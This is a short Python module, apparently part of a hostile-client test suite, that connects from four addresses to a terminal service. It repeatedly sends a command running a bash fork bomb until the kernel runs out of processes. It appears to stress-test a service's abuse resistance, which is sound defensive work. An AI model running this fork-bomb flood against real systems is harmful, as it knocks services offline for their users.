"""Visitors at several addresses start commands that start processes until the kernel gives no more, and again at once."""

from bench.hostile.clients import Peer, address, again, for_seconds, frame, terminal

ADDRESSES = 4
BOMB = frame({"type": "run", "command": "pyguard bash -c 'f(){ f|f& };f'"})


async def attack(url: str, seconds: float, token: str) -> None:
    await for_seconds(seconds, *(again(_start, url, address(number)) for number in range(ADDRESSES)))


async def _start(url: str, place: str) -> None:
    peer: Peer = await terminal(url, place)
    try:
        peer.writer.write(BOMB)
        await peer.until(b'"type":"complete"')
    finally:
        peer.writer.transport.abort()
